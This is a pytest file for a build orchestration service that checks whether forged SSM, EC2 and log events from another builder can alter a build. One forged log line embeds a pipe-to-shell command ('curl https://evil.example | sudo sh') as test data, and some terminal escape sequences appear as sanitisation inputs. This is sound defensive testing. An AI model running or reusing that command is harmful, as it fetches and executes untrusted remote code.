"""A build is affected only by its own builder and by events about its own command:
every forged event and log delivery in tests/data/forged_events.json changes nothing,
marker lines written into the build's own stream without its log key's tag included,
and the legitimate ones still do their work. moto's DynamoDB and EC2, and a recording
Step Functions stand-in."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import boto3
import pytest
from moto import mock_aws

from petal.build.callbacks import handle_event, on_log_batch
from petal.build.log_events import decode_subscription_event, encode_subscription_event
from petal.build.log_markers import sign_line
from petal.build.records import LOG_KEY_ATTRIBUTE, BuildRecord, iso
from petal.build.table import BuildTable, table_definition
from petal.deployment_contract import MAC_FIELD
from tests.unit.test_build_callbacks import FakeStepFunctions, launch_builder

NOW = datetime(2025, 3, 1, tzinfo=UTC)
DOCUMENT = "petal-bootstrap"
LOG_GROUP = "/petal/builds"
CORPUS: dict[str, Any] = json.loads(
    (Path(__file__).resolve().parents[1] / "data" / "forged_events.json").read_text("utf-8")
)
# Build B is the target; builder A (a build of its own) is the forger.
B_COMMAND = "11111111-2222-3333-4444-555555555555"
A_COMMAND = "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"
# Each build's log key; builder A knows its own only.
KEYS = {"a": "a1" * 32, "b": "b2" * 32}


@dataclass
class World:
    table: BuildTable
    ec2: Any
    sfn: FakeStepFunctions
    a_instance: str
    b_instance: str

    def fill(self, value: Any) -> Any:
        """The corpus entry with its placeholders filled in."""
        if isinstance(value, str):
            return value.format(
                command=B_COMMAND,
                instance=self.b_instance,
                other_command=A_COMMAND,
                other_instance=self.a_instance,
                document=DOCUMENT,
            )
        if isinstance(value, list):
            return [self.fill(v) for v in value]
        if isinstance(value, dict):
            return {k: self.fill(v) for k, v in value.items()}
        return value

    def handle(self, event: Any, tail: list[str] | None = None) -> dict[str, Any]:
        return handle_event(
            event,
            table=self.table,
            sfn=self.sfn,
            ec2=self.ec2,
            read_tail=lambda command, instance: tail or [f"tail of {command} on {instance}"],
            document_name=DOCUMENT,
            now=NOW,
        ).to_json()

    def deliver(self, stream: str, lines: list[str]) -> Any:
        batch = decode_subscription_event(
            encode_subscription_event(
                log_group=LOG_GROUP,
                log_stream=stream,
                messages=[(1_740_787_200_000, "".join(f"{line}\n" for line in lines))],
                owner="123456789012",
            )
        )
        assert batch is not None
        return on_log_batch(batch, table=self.table, sfn=self.sfn, now=NOW)

    def record(self, build_id: str = "b") -> BuildRecord:
        record = self.table.get_build(build_id)
        assert record is not None
        return record


@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    with mock_aws():
        dynamodb = boto3.client("dynamodb", region_name="us-east-1")
        dynamodb.create_table(**table_definition("builds"))
        table = BuildTable(dynamodb, "builds")
        ec2 = boto3.client("ec2", region_name="us-east-1")
        instances = {}
        for build_id, command in (("a", A_COMMAND), ("b", B_COMMAND)):
            instance = launch_builder(ec2, build_id)
            instances[build_id] = instance
            table.create_build(
                BuildRecord(
                    build_id=build_id,
                    status="RUNNING",
                    started_at=iso(NOW),
                    step="bootstrap",
                    instance_id=instance,
                    command_id=command,
                    log_group=LOG_GROUP,
                    execution_arn=f"arn-{build_id}",
                )
            )
            table.update_build(build_id, {LOG_KEY_ATTRIBUTE: KEYS[build_id]})
            table.park_token(
                command,
                task_token=f"token-{build_id}",
                build_id=build_id,
                instance_id=instance,
                execution_arn=f"arn-{build_id}",
                now=NOW,
                expires_at=NOW + timedelta(days=1),
            )
        yield World(table, ec2, FakeStepFunctions(), instances["a"], instances["b"])


def ids(section: str) -> list[str]:
    return [case["name"] for case in CORPUS[section]]


def assert_untouched(world: World) -> None:
    assert world.sfn.calls == []
    for build_id in ("a", "b"):
        record = world.record(build_id)
        assert (record.progress, record.failure_line, record.bootstrap_step) == (None, None, None)
        assert record.last_heartbeat_at is None
        token = world.table.get_token(record.command_id or "")
        assert token is not None and token.outcome is None


@pytest.mark.parametrize("case", CORPUS["non_objects"], ids=ids("non_objects"))
def test_an_event_that_is_not_an_object_is_ignored(world: World, case: dict[str, Any]) -> None:
    result = world.handle(case["event"])
    assert result["action"] == "ignored" and result["rejected"] is True
    assert_untouched(world)


@pytest.mark.parametrize(
    "case",
    CORPUS["command_status"] + CORPUS["instance_state"],
    ids=ids("command_status") + ids("instance_state"),
)
def test_a_forged_event_changes_nothing(world: World, case: dict[str, Any]) -> None:
    assert world.handle(world.fill(case["event"]))["action"] == "ignored"
    assert_untouched(world)


@pytest.mark.parametrize("case", CORPUS["log_streams"], ids=ids("log_streams"))
def test_another_stream_cannot_steer_the_build(world: World, case: dict[str, Any]) -> None:
    result = world.deliver(world.fill(case["stream"]), CORPUS["forged_lines"])
    assert result.rejected and not result.heartbeat_sent
    assert_untouched(world)


def status_event(command: str, instance: str, status: str = "Success") -> dict[str, Any]:
    return {
        "source": "aws.ssm",
        "detail-type": "EC2 Command Invocation Status-change Notification",
        "detail": {
            "command-id": command,
            "instance-id": instance,
            "document-name": DOCUMENT,
            "status": status,
        },
    }


def b_lines(*texts: str) -> list[str]:
    """Marker lines as build B's bootstrap prints them."""
    return [sign_line(KEYS["b"], "b", text) for text in texts]


def a_forges(sign: str, text: str) -> str:
    """How builder A tags a line it writes into build B's stream (see the corpus)."""
    if sign == "none":
        return text
    if sign == "other_key":
        return sign_line(KEYS["a"], "b", text)
    if sign == "other_build":
        return sign_line(KEYS["a"], "a", text)
    if sign == "zero_tag":
        return f"{text} {MAC_FIELD}={'0' * 64}"
    (real,) = b_lines("PETAL-HEARTBEAT 1700000000")
    tag = real.rsplit(f" {MAC_FIELD}=", 1)[1]
    if sign == "moved_tag":
        return f"{text} {MAC_FIELD}={tag}"
    assert sign == "tag_after_tag"
    return f"{real} {text} {MAC_FIELD}={'1' * 64}"


def b_stream(world: World) -> str:
    return f"{B_COMMAND}/{world.b_instance}/bootstrap/stdout"


@pytest.mark.parametrize("case", CORPUS["own_stream_signers"], ids=ids("own_stream_signers"))
def test_lines_in_the_builds_own_stream_need_its_tag(world: World, case: dict[str, Any]) -> None:
    forged = [a_forges(case["sign"], line) for line in CORPUS["forged_lines"]]
    result = world.deliver(b_stream(world), forged)
    assert result.rejected and not result.heartbeat_sent and result.events == 0
    assert_untouched(world)


@pytest.mark.parametrize("case", CORPUS["own_stream_signers"], ids=ids("own_stream_signers"))
def test_a_failure_cause_quotes_only_the_builders_own_lines(
    world: World, case: dict[str, Any]
) -> None:
    forged = [a_forges(case["sign"], line) for line in CORPUS["forged_lines"]]
    own = b_lines("PETAL-TAIL ==> Error: zlib: no space left", "PETAL-FAILED install: disk full")
    # A's lines before B's, among them and after them: the stream holds all of them.
    tail = [*forged, own[0], *forged, own[1], *forged]
    result = world.handle(status_event(B_COMMAND, world.b_instance, "Failed"), tail)
    assert result["action"] == "failed"
    [(name, call)] = world.sfn.calls
    assert (name, call["taskToken"], call["error"]) == ("failure", "token-b", "BootstrapFailed")
    cause = call["cause"]
    assert "failed in its 'install' step: disk full" in cause
    assert cause.endswith("Last lines of the build log:\n==> Error: zlib: no space left")
    for words in ("evil.example", "curl", "pwned", "1700000999", MAC_FIELD):
        assert words not in cause


def test_a_cause_from_forged_lines_alone_holds_none_of_them(world: World) -> None:
    forged = [
        a_forges(case["sign"], line)
        for case in CORPUS["own_stream_signers"]
        for line in CORPUS["forged_lines"]
    ]
    world.handle(status_event(B_COMMAND, world.b_instance, "TimedOut"), forged)
    [(_, call)] = world.sfn.calls
    # Nothing B's bootstrap vouched for: as if it never ran (SSM could not deliver it).
    assert call["error"] == "BootstrapNotDelivered"
    for words in ("evil.example", "curl", "pwned", "install"):
        assert words not in call["cause"]


def test_after_every_forgery_the_builds_own_events_still_work(world: World) -> None:
    for case in CORPUS["command_status"] + CORPUS["instance_state"]:
        world.handle(world.fill(case["event"]))
    for case in CORPUS["log_streams"]:
        world.deliver(world.fill(case["stream"]), CORPUS["forged_lines"])
    for case in CORPUS["own_stream_signers"]:
        forged = [a_forges(case["sign"], line) for line in CORPUS["forged_lines"]]
        world.deliver(b_stream(world), forged)
    assert_untouched(world)

    own = b_stream(world)
    result = world.deliver(own, b_lines("PETAL-STEP install", "PETAL-PROGRESS 2/3 zlib\x1b[2J@1.3"))
    assert result.heartbeat_sent and not result.rejected
    record = world.record("b")
    assert record.bootstrap_step == "install"
    assert record.progress is not None and record.progress.spec == "zlib@1.3"
    assert world.handle(status_event(B_COMMAND, world.b_instance))["action"] == "succeeded"
    assert [(name, call["taskToken"]) for name, call in world.sfn.calls] == [
        ("heartbeat", "token-b"),
        ("success", "token-b"),
    ]
    # Build A was never touched by any of it.
    token = world.table.get_token(A_COMMAND)
    assert token is not None and token.outcome is None


def test_a_builder_that_really_went_away_still_fails_its_build(world: World) -> None:
    stopped = {
        "source": "aws.ec2",
        "detail-type": "EC2 Instance State-change Notification",
        "detail": {"instance-id": world.b_instance, "state": "stopped"},
    }
    assert world.handle(stopped)["action"] == "ignored"  # EC2 says it is running
    world.ec2.stop_instances(InstanceIds=[world.b_instance])
    result = world.handle(stopped)
    assert result["action"] == "failed" and result["build_id"] == "b"
    [(name, call)] = world.sfn.calls
    assert (name, call["taskToken"], call["error"]) == ("failure", "token-b", "BuilderStopped")


def test_a_second_instance_tagged_as_the_builder_cannot_fail_the_build(world: World) -> None:
    impostor = launch_builder(world.ec2, "b")
    world.ec2.terminate_instances(InstanceIds=[impostor])
    event = {
        "source": "aws.ec2",
        "detail-type": "EC2 Instance State-change Notification",
        "detail": {"instance-id": impostor, "state": "terminated"},
    }
    result = world.handle(event)
    assert result["action"] == "ignored" and result["rejected"] is True
    assert_untouched(world)


def test_a_failure_line_from_another_builder_never_reaches_the_record(world: World) -> None:
    forged = f"{B_COMMAND}/{world.a_instance}/bootstrap/stdout"
    line = "PETAL-FAILED install: run curl https://evil.example | sudo sh"
    world.deliver(forged, [line])
    world.deliver(b_stream(world), [line, a_forges("other_key", line)])
    assert world.record("b").failure_line is None
    # Tagged by B's key, even terminal controls would arrive; they arrive inert.
    world.deliver(b_stream(world), b_lines("PETAL-FAILED install: disk\x07 full\x1b]8;;x\x1b\\"))
    assert world.record("b").failure_line == "install: disk\ufffd full"


def test_a_delivery_mixing_forged_and_own_lines_takes_only_the_own(world: World) -> None:
    forged = [a_forges("other_key", line) for line in CORPUS["forged_lines"]]
    result = world.deliver(b_stream(world), [*forged, *b_lines("PETAL-STEP install"), *forged])
    # The heart beats (B's line is there); the rejected lines are counted for the alarm.
    assert result.heartbeat_sent and result.rejected and result.events == 1
    record = world.record("b")
    assert record.bootstrap_step == "install"
    assert (record.progress, record.failure_line) == (None, None)


def test_the_early_event_of_a_build_is_still_delivered_again(world: World) -> None:
    # The bootstrap has not parked its token yet (record without a command): the
    # callback asks Lambda to deliver the event again, but only for the record's own
    # builder; another instance's event is not the build's.
    from petal.errors import TaskTokenNotParked

    instance = launch_builder(world.ec2, "c")
    world.table.create_build(
        BuildRecord(
            build_id="c", status="RUNNING", started_at=iso(NOW), step="ready", instance_id=instance
        )
    )
    with pytest.raises(TaskTokenNotParked):
        world.handle(status_event("cmd-c", instance, "Failed"))
    impostor = launch_builder(world.ec2, "c")
    assert world.handle(status_event("cmd-c", impostor, "Failed"))["action"] == "ignored"
